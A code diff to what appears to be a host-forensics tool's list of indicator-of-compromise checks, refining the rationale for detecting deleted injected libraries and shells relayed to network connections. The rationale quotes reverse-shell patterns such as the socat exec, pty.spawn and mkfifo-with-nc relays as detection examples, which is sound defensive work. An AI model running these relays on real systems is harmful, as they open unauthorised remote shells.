@@ -193,8 +193,9 @@ export const IOC_CHECKS: CheckInput[] = [
       "An injected library is often deleted once loaded. High by default; critical when it was in a temp, world-" +
       "writable or home location; low when a root-owned file is back at the same system path (a package upgrade, " +
       "restart pending). On the live host deletion is judged by the mapped inode (the maps line's inode against " +
-      "the path, then the link count through /proc/<pid>/map_files), so a file merely named 'x (deleted)' does " +
-      "not count; under --root, by the ' (deleted)' suffix.",
+      "the path, then the link count through /proc/<pid>/map_files, which needs CAP_SYS_ADMIN), so a file merely " +
+      "named 'x (deleted)' does not count; under --root, under --drop-priv and for files on remote mounts, by the " +
+      "' (deleted)' suffix.",
     remediation:
       "Save the mapped image from /proc/<pid>/map_files/<range> before the process exits; after an upgrade, " +
       "restart the service.",
@@ -276,11 +277,13 @@ export const IOC_CHECKS: CheckInput[] = [
     title: "Shell whose terminal or pipes are relayed to a network connection",
     severity: "critical",
     rationale:
-      "A shell (or an interpreter running inline code) on a pty or pipes whose other end is held by a process with " +
-      "a connected TCP/UDP socket: `socat tcp:… exec:sh,pty`, `python -c 'pty.spawn(…)'` relays, " +
-      "`mkfifo f; sh -i < f | nc host port > f`. Both input and output must reach the network (`curl … | sh` " +
-      "does not); a pty held by a terminal server (sshd, dropbear, mosh-server, telnetd, from a program directory) is " +
-      "a login. A CGI shell script has the same shape: the remote address tells them apart.",
+      "A shell reading its commands from stdin on a pty, pipes or a socketpair whose other end is held by a " +
+      "process with a connected TCP/UDP socket: `socat tcp:… exec:sh,pty`, `socat tcp:… exec:sh`, " +
+      "`python -c 'pty.spawn(…)'` relays, `mkfifo f; sh -i < f | nc host port > f`. Both input and output must " +
+      "reach the network (`curl … | sh` does not); `sh -c …` and `sh script` (CI agents, supervisors) are not " +
+      "read from stdin; a pty held by a terminal server (sshd, dropbear, mosh-server, telnetd, ttyd, shellinaboxd, " +
+      "from a program directory) is a login. A CI agent that feeds a shell its script over a pipe, or a CGI shell " +
+      "script, has the same shape: the relay and the remote address tell them apart.",
     remediation: "Record the relay's remote address, save the process tree, and contain the host.",
     mitre: ["T1059.004", "T1071"],
   }),
